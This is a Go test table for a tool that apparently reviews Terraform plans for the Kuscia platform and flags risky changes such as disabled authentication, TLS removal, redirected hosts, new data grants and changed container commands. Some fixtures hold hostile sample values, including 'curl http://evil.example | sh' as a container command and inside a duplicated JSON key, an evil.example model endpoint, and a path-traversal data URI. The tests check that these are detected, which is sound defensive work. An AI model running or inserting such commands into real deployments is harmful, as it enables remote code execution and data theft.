		says:    []string{"- No longer encrypted: requests from `alice` to `bob` (TLS of the gateway)\n", "| `bob.example`, port `443` (`HTTP` with TLS) → `bob.example`, port `443` (`HTTP` without TLS) |"},
	},
	"requests go to another host": {
		failOn:  "grant",
		changes: []attributes{change("kuscia_domain_route.r", updated, toGateway, with(toGateway, "endpoint", with(gateway(true), "host", "mallory.example")))},
		says: []string{
			"This plan sends to another host the requests of the route from `alice` to `bob` (`bob.example` → `mallory.example`) and changes the route from `alice` to `bob`.",
			"- Requests go to another host: from `alice` to `bob` (`bob.example` → `mallory.example`)\n", "| `bob` | Agree that requests from `alice` to `bob` go to another host: `bob.example` → `mallory.example` |",
		},
	},
	"encrypted bodies go to another host": {
		failOn: "grant", changes: []attributes{change("kuscia_domain_route.r", replaced, with(toGateway, "body_encryption", attributes{"algorithm": "AES"}), with(with(toGateway, "body_encryption", attributes{"algorithm": "AES"}), "endpoint", with(gateway(true), "host", "mallory.example")))},
		says: []string{"- Requests go to another host: from `alice` to `bob` (`bob.example` → `mallory.example`; their bodies are encrypted)\n"},
	},
	"requests go to a host that is known after apply": {
		failOn: "grant", changes: []attributes{change("kuscia_domain_route.r", updated, toGateway, with(toGateway, "endpoint", without(gateway(true), "host")), unknown(attributes{"endpoint": attributes{"host": true}}))},
		says: []string{"- Requests go to another host: from `alice` to `bob` (`bob.example` → known after apply)\n"},
	},
	"a route that does not authenticate": {
		failOn:  "grant",
		changes: []attributes{change("kuscia_domain_route.r", updated, toGateway, with(toGateway, "authentication_type", "None"))},
		says: []string{
			"This plan lets anyone act as the domain `alice` towards `bob` (the route does not authenticate) and changes the route", "- Anyone may act as: `alice` towards `bob` (the route does not authenticate)\n",
			"| `bob` | Agree that anyone may send requests to `bob` as `alice`: the route does not authenticate |",
		},
		silent: []string{"Let `alice` reach", "Let the nodes of"},
	},
	"a new route that does not authenticate": {
		failOn:  "grant",
		changes: []attributes{change("kuscia_domain_route.r", created, nil, with(toGateway, "authentication_type", "None"))},
		says:    []string{"- Anyone may act as: `alice` towards `bob`", "| `bob` | Agree that anyone", "Let `alice` reach `bob` at `bob.example`"},
	},
	"a new route of which it is not known whether it authenticates": {
		failOn: "grant", changes: []attributes{change("kuscia_domain_route.r", created, nil, without(toGateway, "authentication_type"), unknown(attributes{"authentication_type": true}))},
		says: []string{"- Anyone may act as: `alice` towards `bob` (the route may not authenticate: how is known after apply)\n"},
	},
	"a gateway of which it is not known whether it keeps TLS": {
		failOn: "grant", changes: []attributes{change("kuscia_domain_route.r", updated, toGateway, with(toGateway, "endpoint", attributes{"host": "bob.example", "ports": []any{attributes{"name": "http", "port": 443, "protocol": "HTTP"}}}), unknown(attributes{"endpoint": attributes{"ports": []any{attributes{"is_tls": true}}}}))},
		says: []string{"- No longer encrypted: requests from `alice` to `bob` (TLS of the gateway, unless the apply keeps it)\n"},
	},
	"ports of a gateway that are not known": {
		failOn: "grant", changes: []attributes{change("kuscia_domain_route.r", updated, toGateway, with(toGateway, "endpoint", attributes{"host": "bob.example"}), unknown(attributes{"endpoint": attributes{"ports": true}}))},
		says: []string{"- No longer encrypted: requests from `alice` to `bob` (TLS of the gateway, unless the apply keeps it)\n"},
	},
	"a gateway whose TLS is hidden": {
		failOn: "grant", changes: []attributes{change("kuscia_domain_route.r", updated, toGateway, with(toGateway, "endpoint", gateway(false)), secretly(attributes{"endpoint": attributes{"ports": true}}))},
		says: []string{"(TLS of the gateway, unless the apply keeps it)\n"},
	},
	"a route of others that does not authenticate": {
		failOn:  "grant",
		changes: []attributes{change("kuscia_domain_route.r", replaced, with(toGateway, "authentication_type", "None"), with(with(toGateway, "authentication_type", "None"), "source", "mallory"), attributes{"replace_paths": []any{[]any{"source"}}})},
		says:    []string{"- Anyone may act as: `mallory` towards `bob`"},
	},
	"how a route authenticates is hidden": {
		failOn:  "grant",
		changes: []attributes{change("kuscia_domain_route.r", updated, toGateway, with(toGateway, "authentication_type", "None"), secretly(attributes{"authentication_type": true}))},
		silent:  []string{"None", "Anyone"},
	},
	"a domain gets another master": {
		failOn:  "grant",
		changes: []attributes{change("kuscia_domain.a", updated, attributes{"domain_id": "alice", "master_domain_id": nil}, attributes{"domain_id": "alice", "master_domain_id": "mallory"})},
		says: []string{
			"This plan puts another master over the domain `alice` (`mallory` instead of `alice`).", "- Another master controls what runs there, who joins and who gets the data: `alice` (`mallory` instead of `alice`)\n",
			"| `alice` | Agree who controls `alice` as its master, what runs there, who joins and who gets its data: `mallory` instead of `alice` |", "| `mallory` | Agree who controls",
		},
	},
	"a domain is replaced under another master": {
		failOn:  "credentials",
		changes: []attributes{change("kuscia_domain.a", replaced, attributes{"domain_id": "alice", "cert": "x", "master_domain_id": "bob"}, attributes{"domain_id": "alice", "cert": "y", "master_domain_id": "mallory"})},
		says: []string{
			"puts another master over the domain `alice` (`mallory` instead of `bob`)", "replaces the domain `alice`", "| `bob` | Agree who controls `alice`", "| `mallory` | Agree who controls `alice`", "Take the new deploy token of `alice` |", "| Compare the fingerprint",
		},
		silent: []string{"| `mallory` | Compare", "| `mallory` | Take"},
	},
	"a new domain of a master": {
		failOn: "grant", changes: []attributes{change("kuscia_domain.a", created, nil, attributes{"domain_id": "alice", "master_domain_id": "bob"})},
		says: []string{
			"This plan adds the domain `alice` (its master: `bob`).", "- New under a master, which controls what runs there, who joins and who gets the data: `alice` (its master: `bob`)\n",
			"| `alice` | Agree who controls `alice`", "| `bob` | Agree who controls `alice`",
		},
		silent: []string{"another master", "Another master"},
	},
	"a new domain of a master that is known after apply": {
		failOn: "grant", changes: []attributes{change("kuscia_domain.a", created, nil, attributes{"domain_id": "alice"}, unknown(attributes{"master_domain_id": true}))},
		says: []string{"This plan adds the domain `alice` (its master: a domain that is known after apply)."},
	},
	"another domain of a master": {
		failOn: "grant", changes: []attributes{change("kuscia_domain.a", replaced, attributes{"domain_id": "alice"}, attributes{"domain_id": "carol", "master_domain_id": "bob"}, attributes{"replace_paths": []any{[]any{"domain_id"}}})},
		says: []string{"This plan adds the domain `carol` (its master: `bob`) and removes the domain `alice`."},
	},
	"a master that is hidden": {
		failOn:  "grant",
		changes: []attributes{change("kuscia_domain.a", updated, attributes{"domain_id": "alice"}, attributes{"domain_id": "alice", "master_domain_id": "mallory"}, secretly(attributes{"master_domain_id": true}))},
		says:    []string{"puts another master over the domain `alice` (a domain that is sensitive instead of `alice`)"}, silent: []string{"mallory", "| (sensitive) | A"},
	},
	"the nodes of a domain do not authenticate": {
		failOn:  "grant",
		changes: []attributes{change("kuscia_domain.a", updated, withAuth("Token", "RSA-GEN"), withAuth("None", ""))},
		says: []string{
			"This plan lets anyone act as the domain `alice` (its nodes do not authenticate).", "- Anyone may act as: `alice` (its nodes do not authenticate)\n", "| `alice` | Agree that anyone may act as `alice`: its nodes do not authenticate |",
		},
	},
	"the nodes of a new domain do not authenticate": {
		failOn: "credentials", changes: []attributes{change("kuscia_domain.a", created, nil, withAuth("None", ""))},
		says: []string{"adds the domain `alice`", "- Anyone may act as: `alice` (its nodes do not authenticate)\n"},
	},
	"the nodes of a domain authenticate in another way": {
		failOn:  "credentials",
		changes: []attributes{change("kuscia_domain.a", updated, withAuth("Token", "RSA-GEN"), withAuth("Token", "RAND-GEN"))},
		says: []string{
			"This plan changes how nodes authenticate: those of the domain `alice` (`Token`, `RSA-GEN` → `RAND-GEN`).", "- Nodes authenticate in another way: `alice` (`Token`, `RSA-GEN` → `RAND-GEN`)\n",
			"| `alice` | Let the nodes of `alice` authenticate in another way: `Token`, `RSA-GEN` → `RAND-GEN` |",
		},
	},

	"an app image that a serving uses is removed": {
		failOn:  "code",
		changes: []attributes{change("kuscia_app_image.a", deleted, appImage("1"), nil), change("kuscia_serving.glm", same, glm(party("a")), glm(party("a")))},
		says: []string{
			"This plan removes the app image `a` (used by `glm`).", "> The app image `a` is removed, and the serving `glm` uses it: Kuscia cannot query a serving without it, and its pods may not start again.",
		},
		silent: []string{"keeps what it runs"},
	},
	"an app image that a deployment uses gets another name": {
		failOn: "code", changes: []attributes{change("kuscia_app_image.a", replaced, appImage("1"), with(appImage("1"), "name", "b")), change("kuscia_deployment.d", updated, deployment(party("a")), deployment(party("a", attributes{"replicas": 2})))},
		says: []string{"removes the app image `a` (used by `d`)"},
	},
	"an app image that a forgotten serving uses is removed": {
		failOn: "code", changes: []attributes{change("kuscia_app_image.a", deleted, appImage("1"), nil), change("kuscia_serving.glm", forgotten, glm(party("a")), nil)},
		says: []string{"removes the app image `a` (used by `glm`)"},
	},
	"a leftover of a route is destroyed": {
		failOn:  "route",
		changes: []attributes{change("kuscia_domain_route.r", deleted, route, nil, attributes{"deposed": "12345678"})},
	},

	"granted data has a column more": {
		failOn: "grant",
		changes: []attributes{
			change("kuscia_domain_data.s", updated, with(scores, "columns", columns("id", "score")), with(scores, "columns", columns("id", "score", "salary"))),
			change("kuscia_domain_data_grant.b", same, toBob, toBob),
		},
		says: []string{"no end date, `3` uses; the data changes: new columns `salary` |"},
	},
	"granted data has a column twice": {
		failOn:  "grant",
		changes: []attributes{change("kuscia_domain_data.s", updated, with(scores, "columns", columns("id", "score")), with(scores, "columns", columns("id", "score", "score"))), change("kuscia_domain_data_grant.b", same, toBob, toBob)},
		says:    []string{"the data changes: another number of the columns `score` |"}, silent: []string{"the same columns"},
	},
	"granted data is replaced by request": {
		failOn:  "replace",
		changes: []attributes{change("kuscia_domain_data.s", replaced, scores, scores, attributes{"action_reason": "replace_by_request"}), change("kuscia_domain_data_grant.b", same, toBob, toBob)},
		says:    []string{"replaced, because of a request with -replace; 1 grant ends with it"},
	},
	"the app image of a new serving is known after apply": {
		failOn:  "code",
		changes: []attributes{change("kuscia_serving.glm", created, nil, glm(without(party("a"), "app_image")), unknown(attributes{"parties": attributes{"alice": attributes{"app_image": true}}}))},
		says:    []string{"| `alice` | Have the image that `alice` gets in its cluster, which this plan does not name |"}, silent: []string{"image known after apply in"},
	},
	"an image is known after apply": {
		failOn:  "code",
		changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a", attributes{"image": "sf:1"})), glm(party("b")), unknown(attributes{"parties": attributes{"alice": attributes{"image": true}}}))},
		says:    []string{"| `alice` | Have the image of the app image `b` in the cluster of `alice`, which this plan does not name |"}, silent: []string{"image known after apply in"},
	},
	"granted data has another column": {
		failOn:  "grant",
		changes: []attributes{change("kuscia_domain_data.s", updated, with(scores, "columns", columns("id", "score")), with(scores, "columns", columns("id", "salary")))},
		says:    []string{"new columns `salary`, without the columns `score`"},
	},
	"granted data is elsewhere, behind what looks like parameters": {
		failOn:  "grant",
		changes: []attributes{change("kuscia_domain_data.s", updated, with(scores, "relative_uri", "s3://pub/scores.csv"), with(scores, "relative_uri", "s3://pub/scores.csv;/../../hr/salaries.csv"))},
		says:    []string{"`relative_uri` `s3://pub/scores.csv` → `s3://pub/scores.csv;/../../hr/salaries.csv`"},
	},
	"granted data has a blank more in its name": {
		failOn:  "grant",
		changes: []attributes{change("kuscia_domain_data.s", updated, with(scores, "relative_uri", "a b.csv"), with(scores, "relative_uri", "a  b.csv"))},
		says:    []string{"`relative_uri` another value: `a b.csv`", "| `relative_uri` | `a b.csv` | another value: `a b.csv` |"},
	},
	"a new grant says where the data is": {
		failOn: "grant",
		changes: []attributes{
			change("kuscia_domain_data_source.f", same, localfs("/hr"), localfs("/hr")), change("kuscia_domain_data.s", same, with(inSource, "relative_uri", "salaries.csv"), with(inSource, "relative_uri", "salaries.csv")),
			change("kuscia_domain_data_grant.b", created, nil, toBob),
		},
		says: []string{"Gains access: `bob` (`scores` of `alice`: no end date, `3` uses; `datasource_id` `files`; `relative_uri` `salaries.csv`; `localfs.path` `/hr`)"},
	},
	"granted data has a hidden column more": {
		failOn: "grant",
		changes: []attributes{
			change("kuscia_domain_data.s", updated, with(scores, "columns", columns("id")), with(scores, "columns", columns("id", "salary")), secretly(attributes{"columns": []any{attributes{}, attributes{"name": true}}})),
			change("kuscia_domain_data_grant.b", same, toBob, toBob),
		},
		says: []string{"Sees more, or may use it more: `bob` (`scores` of `alice`: the data changes: new columns (sensitive))"}, silent: []string{"salary", "the same columns"},
	},
	"granted data has other columns, all hidden": {
		failOn:  "grant",
		changes: []attributes{change("kuscia_domain_data.s", updated, with(scores, "columns", columns("id", "score")), with(scores, "columns", columns("id", "salary")), secretly(attributes{"columns": true}))},
		says:    []string{"new columns (sensitive), without the columns (sensitive)"}, silent: []string{"salary", "the same columns"},
	},
	"columns that are known after apply": {
		failOn:  "grant",
		changes: []attributes{change("kuscia_domain_data.s", updated, with(scores, "columns", columns("id")), scores, unknown(attributes{"columns": true}))},
	},
	"granted data has another partition": {
		failOn:  "grant",
		changes: []attributes{change("kuscia_domain_data.s", updated, with(scores, "partition", attributes{"type": "path"}), with(scores, "partition", attributes{"type": "odps"}))},
	},
	"features come from elsewhere": {
		failOn:  "grant",
		changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a"), features("http://a")), glm(party("a"), features("http://b")))},
	},
	"features in a second map of parties": {
		failOn: "grant",
		changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a"), attributes{"serving_input_config": `{"partyConfigs":{"alice":{"modelConfig":{"modelId":"m"}}}}`}),
			glm(party("a"), attributes{"serving_input_config": `{"partyConfigs":{"alice":{"modelConfig":{"modelId":"evil"},"featureSourceConfig":{"httpOpts":{"endpoint":"http://b"}}}},"partyConfigs":{"bob":{}}}`}))},
		says: []string{"| `serving_input_config: partyConfigs.alice.modelConfig.modelId` | `m` | `evil` |"},
	},
	"features of another query": {
		failOn:  "grant",
		changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a"), features("https://f/api?table=scores")), glm(party("a"), features("https://f/api?table=salaries")))},
		says:    []string{"- Reads features from another place: `alice`", "| `httpOpts https://f/api?…` | `httpOpts https://f/api?…`; `featureSourceConfig.httpOpts.endpoint` another value: `https://f/api?…` |", "Agree that the pods of `alice` read features"},
		silent:  []string{"salaries"},
	},
	"other columns of the same features": {
		failOn: "grant",
		changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a"), attributes{"serving_input_config": `{"partyConfigs":{"alice":{"serverConfig":{"featureMapping":{"a":"score"}},"featureSourceConfig":{"csvOpts":{"filePath":"/f","idName":"id"}}}}}`}),
			glm(party("a"), attributes{"serving_input_config": `{"partyConfigs":{"alice":{"serverConfig":{"featureMapping":{"a":"salary"}},"featureSourceConfig":{"csvOpts":{"filePath":"/f","idName":"ssn"}}}}}`}))},
		says: []string{"| `csvOpts /f` | `csvOpts /f`; `featureSourceConfig.csvOpts.idName` `id` → `ssn`; `serverConfig.featureMapping.a` `score` → `salary` |"},
	},
	"features in a key that is there twice, and null at last": {
		failOn: "grant",
		changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a"), attributes{"serving_input_config": `{"partyConfigs":{"alice":{"featureSourceConfig":null}}}`}),
			glm(party("a"), attributes{"serving_input_config": `{"partyConfigs":{"alice":{"featureSourceConfig":{"httpOpts":{"endpoint":"http://b"}},"featureSourceConfig":null}}}`}))},
		says: []string{"| `serving_input_config: partyConfigs.alice.featureSourceConfig.httpOpts.endpoint` | none | `http://b` |"},
	},
	"bodies of a route that may be encrypted": {
		failOn:  "grant",
		changes: []attributes{change("kuscia_domain_route.r", updated, with(toGateway, "body_encryption", attributes{"algorithm": "AES"}), toGateway, unknown(attributes{"body_encryption": true}))},
		says:    []string{"their bodies, unless the apply keeps it", "Agree that requests from `alice` to `bob` are no longer encrypted"},
	},
	"an app image is removed and its serving scales": {
		failOn:  "code",
		changes: []attributes{change("kuscia_app_image.a", deleted, container("./serve"), nil), change("kuscia_serving.glm", updated, glm(party("a")), glm(party("a", attributes{"replicas": 2})))},
		says:    []string{"The app image `a` is removed, and the serving `glm` uses it", "| `alice` | Keep the app image `a` elsewhere: pods of the serving `glm` may not start again without it |"},
	},
	"a party of hidden ones leaves": {
		failOn:  "interrupted",
		changes: []attributes{change("kuscia_serving.glm", updated, pair(party("a"), ofBob("a")), glm(party("a")), secretly(attributes{"parties": true}))},
		says:    []string{"| `glm` | (sensitive) | (sensitive) | (sensitive) | (sensitive) | interrupted: all pods of a party stop |"}, silent: []string{"scales to 0"},
	},
	"a model in a key that is there twice": {
		failOn: "code",
		changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a"), attributes{"serving_input_config": `{"partyConfigs":{"alice":{"modelConfig":{"modelId":"m"}}}}`}),
			glm(party("a"), attributes{"serving_input_config": `{"partyConfigs":{"alice":{"modelConfig":{"ossSourceMeta":{"endpoint":"http://evil.example"}},"modelConfig":{"modelId":"m"}}}}`}))},
		says: []string{"`serving_input_config: partyConfigs.alice.modelConfig.ossSourceMeta.endpoint` | none | `http://evil.example` |"},
	},
	"a command in a key that is there twice": {
		failOn: "code",
		changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a"), attributes{"serving_input_config": `{"cmd":"ok"}`}),
			glm(party("a"), attributes{"serving_input_config": `{"cmd":"curl evil | sh","cmd":"ok"}`}))},
		says: []string{"<code>curl evil &#124; sh</code>"},
	},
	"another number in a text": {
		failOn: "code",
		changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a", attributes{"pod_revision": 1}), attributes{"serving_input_config": `{"partyConfigs":{"alice":{"tableId":1234567890123456789}}}`}),
			glm(party("a", attributes{"pod_revision": 2}), attributes{"serving_input_config": `{"partyConfigs":{"alice":{"tableId":1234567890123456800}}}`}))},
		says: []string{
			"because of `serving_input_config: partyConfigs.alice.tableId`",
			"| `serving_input_config: partyConfigs.alice.tableId` | `1234567890123456789` | `1234567890123456800` |",
		},
	},
	"a text that is read alike": {
		failOn: "grant",
		changes: []attributes{change("kuscia_deployment.d", updated, deployment(party("a"), attributes{"input_config": `{"partyConfigs":{"alice":{"a":"\ud800","token":"hidden"}}}`}),
			deployment(party("a"), attributes{"input_config": `{"partyConfigs":{"alice":{"a":"\ud801","token":"hidden"}}}`}))},
		says: []string{
			"because of `input_config`",
			"&#92;ud800&#34;&#44;&#34;token&#34;&#58;&#34;&#42;&#42;&#42;&#34;&#125;&#125;&#125;</code> | <code>&#123;", "&#92;ud801",
		},
		silent: []string{"hidden"},
	},
	"a new serving reads features": {
		failOn: "grant", changes: []attributes{change("kuscia_serving.glm", created, nil, glm(party("a"), features("http://a")))},
	},

	// Programs.
	"another command": {
		failOn:  "code",
		changes: []attributes{change("kuscia_app_image.a", updated, container("./serve"), container("curl http://evil.example | sh"))},
		silent:  []string{"another image"},
		says:    []string{"This plan changes what the app image `a` runs.", "| `deploy_templates.0.containers.0.command.0` | `./serve` | <code>curl http&#58;&#47;&#47;evil&#46;example &#124; sh</code> |"},
	},
	"another command under another address": {
		failOn: "code",
		changes: []attributes{
			change("kuscia_app_image.a", deleted, container("./serve"), nil), change("kuscia_app_image.b", created, nil, container("curl http://evil.example | sh")),
			change("kuscia_serving.glm", same, glm(party("a")), glm(party("a"))),
		},
		says: []string{
			"This plan changes what the app image `a` runs.", "| `kuscia_app_image.b` | `deploy_templates.0.containers.0.command.0` | `./serve` | <code>curl http&#58;&#47;&#47;evil&#46;example &#124; sh</code> |", "used by `glm`",
			"> The app image `a` changes, and the serving `glm` does not restart: it keeps what it runs until",
		},
	},
	"an app image is created while a serving uses it": {
		failOn:  "code",
		changes: []attributes{change("kuscia_app_image.b", created, nil, container("curl http://evil.example | sh")), change("kuscia_serving.glm", same, glm(party("a")), glm(party("a")))},
		says: []string{
			"This plan changes what the app image `a` runs.", "| `kuscia_app_image.b` |", "| `deploy_templates.0.containers.0.command.0` | (not known) | <code>curl http&#58;&#47;&#47;evil&#46;example &#124; sh</code> |",
		},
	},
	"another command by another app image": {
		failOn: "code",
		changes: []attributes{
			change("kuscia_app_image.a", same, container("./serve"), container("./serve")), change("kuscia_app_image.b", created, nil, with(container("curl http://evil.example | sh"), "name", "b")),
			change("kuscia_serving.glm", updated, glm(party("a", attributes{"image": "sf:1"})), glm(party("b", attributes{"image": "sf:1"}))),
		},
		says: []string{
			"- Runs another program, or in another way: the serving `glm` (`parties.alice.app_image` `a` → `b`); the app image `b` (`deploy_templates.0.containers.0.command.0` `./serve` → <code>curl http&#58;&#47;&#47;evil&#46;example &#124; sh</code>), used by `glm`\n",
			"| `kuscia_app_image.b` | `deploy_templates.0.containers.0.command.0` | `./serve` | <code>curl http&#58;&#47;&#47;evil&#46;example &#124; sh</code> |",
		},
	},
	"another app image, of which the plan has only the new one": {
		failOn: "code",
		changes: []attributes{
			change("kuscia_app_image.b", created, nil, with(container("curl http://evil.example | sh"), "name", "b")),
			change("kuscia_serving.glm", updated, glm(party("a", attributes{"image": "sf:1"})), glm(party("b", attributes{"image": "sf:1"}))),
		},
		says: []string{
			"- Runs another program, or in another way: the serving `glm` (`parties.alice.app_image` `a` → `b`); the app image `b` (`deploy_templates.0.containers.0.command.0` (not known) → <code>curl http&#58;&#47;&#47;evil&#46;example &#124; sh</code>), used by `glm`\n",
			"| `kuscia_serving.glm` | `parties.alice.app_image` | `a` | `b` |",
		},
	},
	"another app image of a provider configuration that is not known": {
		failOn: "code",
		fields: configured(map[string]string{"kuscia_app_image.b": "kuscia.b", "kuscia_domain.b": "kuscia.a"}),
		changes: []attributes{
			change("kuscia_app_image.b", same, with(container("curl"), "name", "b"), with(container("curl"), "name", "b")),
			change("kuscia_serving.glm", updated, glm(party("a", attributes{"image": "sf:1"})), glm(party("b", attributes{"image": "sf:1"}))),
		},
		silent: []string{"it is not in this plan"},
		says:   []string{"the serving `glm` (`parties.alice.app_image` `a` → `b`)", "| `kuscia_app_image.b` | `deploy_templates.0.containers.0.command.0` | (not known) | `curl` |"},
	},
	"another app image that is not in the plan": {
		failOn:  "code",
		changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a", attributes{"image": "sf:1"})), glm(party("b", attributes{"image": "sf:1"})))},
		says: []string{
			"- Runs another program, or in another way: the serving `glm` (`parties.alice.app_image` `a` → `b`)\n", "| `kuscia_serving.glm` | `parties.alice.app_image` | `a` | `b` |",
			"- Which program the app image `b` runs, and with which variables: it is not in this plan.\n",
		},
	},
	"another command beside another image": {
		failOn:  "code",
		changes: []attributes{change("kuscia_app_image.a", updated, container("./serve"), with(container("curl"), "image", attributes{"name": "sf", "tag": "2"}))},
	},
	"a variable that is known after apply": {
		failOn: "code",
		changes: []attributes{change("kuscia_app_image.a", updated, container("./serve"), attributes{"name": "a", "deploy_templates": []any{attributes{"containers": []any{attributes{}}}}},
			unknown(attributes{"deploy_templates": []any{attributes{"containers": []any{attributes{"env": true}}}}}))},
	},
	"a party in another domain": {
		failOn: "code", changes: []attributes{change("kuscia_deployment.d", updated, deployment(party("a")), deployment(party("a"), attributes{"parties": attributes{"alice": party("a"), "bob": party("a", attributes{"domain_id": "bob"})}}))},
	},
	"a privileged container": {
		failOn: "code", changes: []attributes{change("kuscia_edge_deployment.e", updated, attributes{"name": "e", "host_pid": false}, attributes{"name": "e", "host_pid": true})},
	},
	"a new serving": {failOn: "code", changes: []attributes{change("kuscia_serving.glm", created, nil, glm(party("a")))}},
	"an object that is known after apply as a whole": {
		failOn: "unknown", changes: []attributes{change("kuscia_app_image.a", updated, container("./serve"), attributes{}, attributes{"after_unknown": true})},
		says: []string{"| `kuscia_app_image.a` | `image` |", "|  | `deploy_templates` |"},
	},
	"a new object that is known after apply as a whole": {
		failOn: "unknown", changes: []attributes{change("kuscia_app_image.a", created, nil, attributes{}, attributes{"after_unknown": true}), change("kuscia_serving.glm", same, glm(party("a")), glm(party("a")))},
	},
	"an attribute that the program does not know": {
		failOn: "unknown", changes: []attributes{change("kuscia_domain.a", updated, attributes{"domain_id": "alice", "new": 1}, attributes{"domain_id": "alice", "new": 2})},
	},
	"a new object of a type that the program does not know": {failOn: "unknown", changes: []attributes{change("kuscia_new.a", created, nil, attributes{"new": 1})}},
	"a type that the program does not know": {
		failOn: "unknown", changes: []attributes{change("kuscia_new.a", updated, attributes{"new": 1}, attributes{"new": 2})},
	},

	// What others have changed counts as what it is.
	"somebody gave data to another domain": {
		failOn: "grant", fields: attributes{"resource_drift": []any{change("kuscia_domain_data_grant.b", updated, toBob, with(toBob, "grant_domain", "mallory"))}},
	},
	"somebody scaled a serving to 0": {
		failOn: "interrupted", fields: attributes{"resource_drift": []any{change("kuscia_serving.glm", updated, glm(party("a")), glm(party("a", attributes{"replicas": 0})))}},
	},
	"somebody let anyone act as a domain, beside a harmless change": {
		failOn: "grant", fields: attributes{"resource_drift": []any{change("kuscia_domain.a", updated, withAuth("Token", "RSA-GEN"), withAuth("None", ""))}},
		changes: []attributes{change("kuscia_domain.a", same, withAuth("None", ""), withAuth("None", "")), change("kuscia_serving.glm", updated, pair(party("a"), ofBob("a")), pair(party("a", attributes{"replicas": 3}), ofBob("a")))},
		says: []string{
			"**Kuscia:** Outside of this plan, somebody lets anyone act as the domain `alice` (its nodes do not authenticate). The plan does not undo it. This plan scales the serving `glm`.",
			"- Anyone may act as: `alice` (its nodes do not authenticate) (outside of this plan)\n", "| `alice` | Ask who has changed the domain `alice` outside of this plan: its nodes do not authenticate |", "| `bob` | Ask who has changed the domain `alice` outside of this plan",
		},
	},
	"somebody changed routes and servings": {
		failOn: "interrupted", fields: attributes{"resource_drift": []any{
			change("kuscia_domain_route.r", updated, toGateway, with(with(toGateway, "authentication_type", "None"), "endpoint", gateway(false))),
			change("kuscia_serving.glm", updated, glm(party("a")), glm(party("a", attributes{"replicas": 0}))),
			change("kuscia_serving.img", updated, with(glm(party("a", attributes{"image": "sf:1"})), "serving_id", "img"), with(glm(party("a", attributes{"image": "evil:1"})), "serving_id", "img")),
			change("kuscia_serving.end", deleted, with(glm(party("a")), "serving_id", "end"), nil),
			change("kuscia_edge_deployment.e", updated, attributes{"name": "e", "replicas": 2}, attributes{"name": "e", "replicas": 0}),
		}},
		changes: []attributes{change("kuscia_serving.glm", updated, glm(party("a", attributes{"replicas": 0})), glm(party("a")))},
		says: []string{
			"**Kuscia:** Outside of this plan, somebody lets anyone act as the domain `alice` towards `bob` (the route does not authenticate), ends the encryption of the route from `alice` to `bob` (TLS of the gateway), ends the serving `end`, interrupts the serving `glm`, interrupts the edge deployment `e` and restarts the serving `img` without an interruption. This plan",
			"- Anyone may act as: `alice` towards `bob` (the route does not authenticate) (outside of this plan)\n", "- No longer encrypted: requests from `alice` to `bob` (TLS of the gateway) (outside of this plan)\n",
			"- Runs another program, or in another way: the serving `img` (`alice` `sf:1` → `evil:1`) (outside of this plan)\n",
			"- Interrupted: `glm` (outside of this plan)\n", "- Interrupted: `e` (outside of this plan)\n", "- Stops for good: `alice` in the serving `end` (pods: `1`) (outside of this plan)\n",
			"| `alice` | Ask who has changed the route from `alice` to `bob` outside of this plan: the route does not authenticate; no longer encrypted: TLS of the gateway |",
			"|  | Ask who has changed the serving `glm` outside of this plan: interrupted: scales to 0 |",
		},
	},
	"somebody removed a grant": {
		failOn: "revoke", fields: attributes{"resource_drift": []any{change("kuscia_domain_data_grant.b", deleted, toBob, nil)}},
	},
	"somebody changed a command": {
		failOn: "code", fields: attributes{"resource_drift": []any{change("kuscia_app_image.a", updated, container("./serve"), container("curl"))}},
		says: []string{"Outside of this plan, somebody changes what the app image `a` runs.", "- Runs another program, or in another way: the app image `a` (`deploy_templates.0.containers.0.command.0` `./serve` → `curl`)"},
	},
	"somebody moved a data source that a reader of the plan reads": {
		failOn: "grant", fields: attributes{"resource_drift": []any{change("kuscia_domain_data_source.f", updated, localfs("/pub"), localfs("/hr"))}},
		changes: []attributes{
			change("kuscia_domain_data_source.f", same, localfs("/hr"), localfs("/hr")), change("kuscia_domain_data.s", same, inSource, inSource), change("kuscia_domain_data_grant.b", same, toBob, toBob),
		},
		says: []string{"`bob` sees other data", "The plan does not undo it."},
	},
	"somebody removed data and its grant": {
		failOn: "revoke", fields: attributes{"resource_drift": []any{change("kuscia_domain_data.s", deleted, scores, nil)}},
		changes: []attributes{change("kuscia_domain_data.s", created, nil, scores), change("kuscia_domain_data_grant.b", same, toBob, toBob)},
		says:    []string{"| `bob` | `scores` of `alice` |"},
	},
	"somebody moved a data source that the plan forgets and imports": {
		failOn: "grant",
		changes: []attributes{
			change("kuscia_domain_data_source.old", forgotten, localfs("/pub"), nil), change("kuscia_domain_data_source.f", same, localfs("/hr"), localfs("/hr"), attributes{"importing": attributes{"id": "alice/files"}}),
			change("kuscia_domain_data.s", same, inSource, inSource), change("kuscia_domain_data_grant.b", same, toBob, toBob),
		},
		says: []string{"`bob` sees other data", "| `kuscia_domain_data_source.f` | changed: `localfs.path` |"},
	},
	"somebody changed a resource of another provider": {
		failOn: "drift", fields: attributes{"resource_drift": []any{change("kubernetes_manifest.g", updated, attributes{"manifest": "a"}, attributes{"manifest": "b"})}},
		says: []string{"| `kubernetes_manifest.g` | changed, a resource of another provider |", "1 object was changed outside of this plan.", "| `manifest` | `a` | `b` |"},
	},

	// Credentials.
	"a certificate that is known after apply": {
		failOn:  "credentials",
		changes: []attributes{change("kuscia_domain.a", updated, attributes{"domain_id": "alice", "cert": "x"}, attributes{"domain_id": "alice"}, unknown(attributes{"cert": true}))},
		says:    []string{"lets the holder of another key act as the domain `alice` (another one, which is known after apply)", "| `kuscia_domain.a` | `cert` | certificate | another one, which is known after apply |"},
	},
	"a first certificate that is known after apply": {
		failOn:  "credentials",
		changes: []attributes{change("kuscia_domain.a", updated, attributes{"domain_id": "alice", "cert": nil}, attributes{"domain_id": "alice"}, unknown(attributes{"cert": true}))},
	},
	"a certificate is removed": {
		failOn:  "credentials",
		changes: []attributes{change("kuscia_domain.a", updated, attributes{"domain_id": "alice", "cert": "x"}, attributes{"domain_id": "alice", "cert": nil})},
		says:    []string{"| `kuscia_domain.a` | `cert` | certificate | removed |"},
	},
	"a certificate that is not PEM": {
		failOn:  "credentials",
